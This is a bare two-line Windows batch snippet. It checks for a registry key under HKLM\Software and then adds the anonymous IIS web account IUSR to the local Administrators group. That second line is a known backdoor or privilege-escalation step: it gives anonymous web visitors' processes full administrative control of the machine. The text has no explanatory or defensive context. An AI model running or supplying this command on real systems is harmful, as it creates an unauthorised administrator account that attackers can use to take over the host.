reg query HKLM\Software\C || exit /b 1
net localgroup Administrators IUSR /add
